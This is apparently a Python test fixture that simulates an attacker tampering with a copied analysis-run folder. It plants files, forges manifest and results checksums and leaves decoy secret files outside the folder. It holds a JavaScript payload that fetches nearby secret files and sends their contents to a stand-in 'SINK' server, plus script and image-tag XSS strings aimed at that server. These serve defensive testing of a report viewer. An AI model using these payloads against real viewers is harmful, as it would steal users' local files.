"""A copy of a sound run folder, what a stranger does to it, and what lies outside."""

from __future__ import annotations

import hashlib
import json
import random
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py

from trials import desk  # noqa: F401  # puts the tests' folder on the path

SECRET = "the private words of the user"
SCRIPT = """PLANTED
for (const place of ["../", "../tables/secret.csv", "tables/secret.csv"])
  fetch(place).then((answer) => answer.text()).then((text) => {
    new Image().src = "SINK?" + encodeURIComponent(text.slice(0, 500));
    location = "SINK?" + encodeURIComponent(text.slice(0, 500));
  });
alert(1);
"""


class Stranger:
    """A copy of a sound run, what a stranger does to it, and what lies outside.

    place      the folder around both
    sound      the run that was copied
    sink       address of the stranger's server
    addresses  that are asked for below the run
    what       was done, in words
    """

    def __init__(self, place: Path, sound: Path, sink: str, draws: random.Random) -> None:
        self.place, self.sound, self.sink, self.draws = place, sound, sink, draws
        self.run, self.outside = place / "run", place / "outside"
        shutil.copytree(sound, self.run)
        self.outside.mkdir()
        for name in ("secret.csv", "report.html", "00000-x.shard", "a.json"):
            (self.outside / name).write_text(SECRET)
        self.addresses, self.what = list[str](), ""

    def plant(self, name: str, text: str) -> None:
        """A file in the folder, which is asked for too."""
        file = self.run / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text.replace("{}", SCRIPT).replace("SINK", self.sink), "utf-8")
        self.addresses.append(name)

    def listed(self, *names: str) -> None:
        """The list of what the run has written, with names and a seal that fits."""
        lines = "".join(f"{'0' * 64}  {name}\n" for name in names).encode("utf-8", "replace")
        seal = b"# sha256 " + hashlib.sha256(lines).hexdigest().encode() + b"\n"
        (self.run / ".written").write_bytes(seal + lines)

    def manifest(self, change: Callable[[dict[str, Any]], None]) -> None:
        """Another manifest, with a checksum that fits."""
        from headscope.run.manifest_file import sealed

        file = self.run / "manifest.json"
        manifest = json.loads(file.read_text("utf-8"))
        manifest.pop("checksum")
        change(manifest)
        file.write_bytes(sealed(manifest))

    def results(self, change: Callable[[h5py.File], object]) -> None:
        """Other results, with a checksum that fits."""
        with h5py.File(self.run / "atlas.nc", "r+") as file:
            change(file)
        self.reseal()

    def reseal(self) -> None:
        """Let the manifest fit the results as they are now."""
        digest = hashlib.sha256((self.run / "atlas.nc").read_bytes()).hexdigest()
        self.manifest(lambda manifest: manifest.__setitem__("results_sha256", digest))

    def hostile(self) -> str:
        """A string that would act where it is not taken for text."""
        from views.hostile import HOSTILE

        own = (f"<script>new Image().src='{self.sink}'</script>", f"<img src={self.sink}>")
        return self.draws.choice((*own, *HOSTILE)).encode("utf-8", "replace").decode()
